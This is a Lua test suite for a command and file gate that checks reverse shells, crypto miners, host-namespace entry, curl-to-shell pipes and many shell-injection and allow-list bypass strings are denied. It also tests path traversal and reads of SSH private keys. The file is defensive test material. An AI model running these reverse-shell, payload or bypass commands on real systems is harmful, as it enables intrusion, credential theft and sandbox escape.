local function run(t, text, args) return t.session({ args = args }).gate("command", { command = text, source = "rest" }) end

test("nothing, half a command and odd bytes are answered", function(t)
  t.kind(t.session().gate("command", {}), "allow")
  t.kind(run(t, ""), "allow")
  t.kind(run(t, "'"), "allow")
  t.kind(run(t, "\0\1\2 $("), "allow")
  t.rule(run(t, "ls '", { allow = { "ls" } }), "unreadable")
end)

test("dangerous shapes are refused by default", function(t)
  t.rule(run(t, "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"), "reverse_shell")
  t.rule(run(t, "sudo ./xmrig"), "crypto_miner")
  t.rule(run(t, "nsenter -t 1 -m sh"), "host_namespace")
  t.kind(run(t, "curl x | sh"), "allow")
  t.rule(run(t, "curl x | sh", { deny = { "pipe_to_shell" } }), "pipe_to_shell")
  t.kind(run(t, "curl x | sh", { ask = { "pipe_to_shell" } }), "ask")
  t.rule(run(t, "env telnet x", { deny_programs = { "telnet" } }), "program_denied")
end)

test("an allow-list is not talked around", function(t)
  local args = { allow = { "ls", "git", "echo", "cat", "env", "xargs", "find", "python" } }
  t.kind(run(t, "ls -l | cat", args), "allow")
  t.kind(run(t, "find . | xargs ls", args), "allow")
  for _, text in ipairs {
    "id", "ls; id", "ls && id", "ls | id", "ls & id", "ls\nid", "echo $(id)", "echo `id`", "cat <(id)", "env id", "xargs id", "find . -exec id \\;", "$x", "i\\d; id", "{ id; }",
    "(id)", "if true; then id; fi", "f() { id; }; f", "./ls", "/tmp/git status", "python -c 'x'", "echo x | python", "PATH=/tmp ls", "LD_PRELOAD=x ls", "sudo ls", "eval ls",
    "bash -c ls", "nice ls", "ls > >(id)", "a=id; $a", "${x:-id}", "{id,x}", "echo aWQ= | base64 -d | sh",
  } do
    t.kind(run(t, text, args), "deny")
  end
end)

test("files through the API", function(t)
  local s = t.session()
  t.kind(s.gate("file_op", {}), "allow")
  t.kind(s.gate("file_op", { operation = "write", path = "/workspace/x" }), "allow")
  t.kind(s.gate("file_op", { operation = "write", path = "/workspace/../usr/bin/ls" }), "deny")
  t.kind(s.gate("file_op", { operation = "rename", path = "/workspace/x", target = "/bin/sh" }), "deny")
  t.kind(s.gate("file_op", { operation = "read", path = "/root/.ssh/id_rsa" }), "deny")
  t.kind(s.gate("file_op", { operation = "read", path = "/usr/bin/ls" }), "allow")
end)
